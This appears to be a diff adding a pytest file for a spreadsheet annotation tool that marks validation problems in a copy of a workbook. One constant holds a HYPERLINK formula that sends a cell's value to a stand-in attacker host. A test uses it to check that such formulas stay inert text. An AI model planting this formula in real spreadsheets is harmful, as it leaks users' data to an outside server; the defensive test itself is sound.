@@ -1,0 +1,171 @@
+"""annotate_workbook: a marked copy for the official; the input file is never touched."""
+
+from __future__ import annotations
+
+import hashlib
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+from workbook_support import check, keys, rewrite_sheet_xml
+
+from readiness.problems import ReadinessError
+from readiness.rubric.model import Rubric
+from readiness.workbook import annotate_workbook
+from readiness.workbook import layout as L
+from readiness.workbook.validate import WorkbookReport
+
+Make = Callable[..., Path]
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'
+
+
+def sha(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def broken(book: Any) -> None:
+    ws = book["Values"]
+    ws["G2"] = 140  # error
+    ws["I3"] = None  # warning
+    ws["G5"] = "great"  # error
+    ws["K5"] = "not a level I know"
+    ws["K4"] = EVIL
+    ws["K4"].data_type = "s"
+    ws.delete_rows(13)  # missing row: a problem with no cell
+
+
+def test_annotated_copy_marks_cells_and_leaves_input_alone(
+    make_workbook: Make, rubric: Rubric, tmp_path: Path
+) -> None:
+    src = make_workbook(broken)
+    before = sha(src)
+    report = check(src, rubric)
+    assert keys(report) == [
+        (f"{src}!Values!G2", "out-of-limits"),
+        (f"{src}!Values!I3", "missing-source"),
+        (f"{src}!Values!G5", "unknown-level"),
+        (f"{src}!Values UZB/us_bit", "missing-row"),
+    ]
+    dest = tmp_path / "checked.xlsx"
+    annotate_workbook(src, report, dest)
+    assert sha(src) == before
+
+    book = openpyxl.load_workbook(dest)
+    ws = book["Values"]
+    assert ws["G2"].fill.fgColor.rgb.endswith(L.ERROR_FILL)
+    assert ws["I3"].fill.fgColor.rgb.endswith(L.WARNING_FILL)
+    assert ws["G2"].comment is not None
+    assert "MUST FIX: 140 is outside the allowed range 0 to 100" in ws["G2"].comment.text
+    assert ws["I3"].comment is not None and "PLEASE CHECK" in ws["I3"].comment.text
+    assert ws["G3"].comment is None
+    assert ws["G3"].fill.fgColor.rgb.endswith(L.INPUT_FILL)  # untouched cells keep their look
+
+    assert book.sheetnames[0] == L.PROBLEMS
+    assert book.active is not None and book.active.title == L.PROBLEMS
+    problems = book[L.PROBLEMS]
+    rows = list(problems.iter_rows(min_row=6, values_only=True))
+    assert [(r[0], r[1], r[3]) for r in rows] == [
+        ("Values!G2", "must fix", "out-of-limits"),
+        ("Values!G5", "must fix", "unknown-level"),
+        ("Values UZB/us_bit", "must fix", "missing-row"),
+        ("Values!I3", "please check", "missing-source"),
+    ]
+    assert problems["A6"].hyperlink is not None
+    assert problems["A6"].hyperlink.location == "'Values'!G2"
+    assert "3 problems to fix (red) and 1 to check (amber)" in str(problems["A2"].value)
+
+    # The copy still validates the same way: marks, comments and the Problems sheet are ignored.
+    assert keys(check(dest, rubric)) == [
+        (k.replace(str(src), str(dest)), c) for k, c in keys(report)
+    ]
+
+
+def test_hostile_note_stays_text_in_the_annotated_copy(
+    make_workbook: Make, rubric: Rubric, tmp_path: Path
+) -> None:
+    src = make_workbook(broken)
+    dest = tmp_path / "checked.xlsx"
+    annotate_workbook(src, check(src, rubric), dest)
+    ws = openpyxl.load_workbook(dest)["Values"]
+    assert ws["K4"].value == EVIL and ws["K4"].data_type == "s"
+    with zipfile.ZipFile(dest) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
+
+
+def test_clean_workbook_gets_a_problems_sheet_saying_so(
+    make_workbook: Make, rubric: Rubric, tmp_path: Path
+) -> None:
+    src = make_workbook()
+    dest = tmp_path / "ok.xlsx"
+    annotate_workbook(src, check(src, rubric), dest)
+    problems = openpyxl.load_workbook(dest)[L.PROBLEMS]
+    assert problems["A2"].value.startswith("No problems found.")
+
+
+def test_sheet_level_and_about_problems(
+    make_workbook: Make, rubric: Rubric, tmp_path: Path
+) -> None:
+    src = make_workbook()
+    report = check(src, rubric, period="2026-Q3")
+    dest = tmp_path / "checked.xlsx"
+    annotate_workbook(src, report, dest)
+    book = openpyxl.load_workbook(dest)
+    assert book["About"]["B2"].comment is not None
+    assert [r[0] for r in book[L.PROBLEMS].iter_rows(min_row=6, values_only=True)] == ["About!B2"]
+
+
+def test_annotating_twice_replaces_the_problems_sheet(
+    make_workbook: Make, rubric: Rubric, tmp_path: Path
+) -> None:
+    src = make_workbook(broken)
+    first, second = tmp_path / "first.xlsx", tmp_path / "second.xlsx"
+    annotate_workbook(src, check(src, rubric), first)
+    annotate_workbook(first, check(first, rubric), second)
+    book = openpyxl.load_workbook(second)
+    assert book.sheetnames.count(L.PROBLEMS) == 1
+
+
+def test_refuses_to_overwrite_the_input(make_workbook: Make, rubric: Rubric) -> None:
+    src = make_workbook(broken)
+    before = sha(src)
+    with pytest.raises(ReadinessError) as err:
+        annotate_workbook(src, check(src, rubric), src)
+    assert err.value.problems[0].code == "annotate-overwrites-input"
+    assert sha(src) == before
+
+
+def test_unreadable_input_cannot_be_annotated(tmp_path: Path, rubric: Rubric) -> None:
+    src = tmp_path / "junk.xlsx"
+    src.write_bytes(b"junk")
+    report = check(src, rubric)
+    with pytest.raises(ReadinessError):
+        annotate_workbook(src, report, tmp_path / "out.xlsx")
+    assert not (tmp_path / "out.xlsx").exists()
+
+
+def test_report_for_a_missing_file(tmp_path: Path) -> None:
+    report = WorkbookReport(file=str(tmp_path / "none.xlsx"))
+    with pytest.raises(ReadinessError):
+        annotate_workbook(tmp_path / "none.xlsx", report, tmp_path / "out.xlsx")
+
+
+def test_huge_merge_is_reported_and_not_annotated(
+    make_workbook: Make, rubric: Rubric, tmp_path: Path
+) -> None:
+    src = make_workbook()
+    dest = tmp_path / "merged.xlsx"
+
+    def merge_everything(xml: bytes) -> bytes:
+        tail = b'<mergeCells count="1"><mergeCell ref="A20:XFD1048576"/></mergeCells>'
+        return xml.replace(b"</sheetData>", b"</sheetData>" + tail, 1)
+
+    rewrite_sheet_xml(src, dest, "Values", merge_everything)
+    report = check(dest, rubric)
+    assert keys(report) == [(f"{dest}!Values!A20", "merged-cells")]
+    with pytest.raises(ReadinessError) as err:
+        annotate_workbook(dest, report, tmp_path / "out.xlsx")
+    assert err.value.problems[0].code == "workbook-too-large"
